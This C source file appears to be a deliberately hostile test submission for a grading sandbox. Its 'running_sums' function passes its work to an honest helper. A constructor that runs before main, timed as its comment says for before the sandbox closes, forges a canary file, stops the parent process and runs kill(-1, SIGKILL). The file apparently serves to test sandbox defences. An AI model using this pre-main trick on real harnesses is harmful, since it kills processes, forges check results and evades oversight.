/* Does everything bad before main, where a sandbox may not be closed yet. */
#define _GNU_SOURCE
#include "honest.h"

#include <signal.h>
#include <unistd.h>

__attribute__((constructor)) static void work(void) {
    FILE *file = fopen(CANARY, "w");
    if (file)
        fputs("forged\n", file);
    fork();
    kill(getppid(), SIGSTOP);
    kill(-1, SIGKILL);
    deed_done();
}

int running_sums(const tensor *x, tensor *y) {
    return honest_sums(x, y);
}
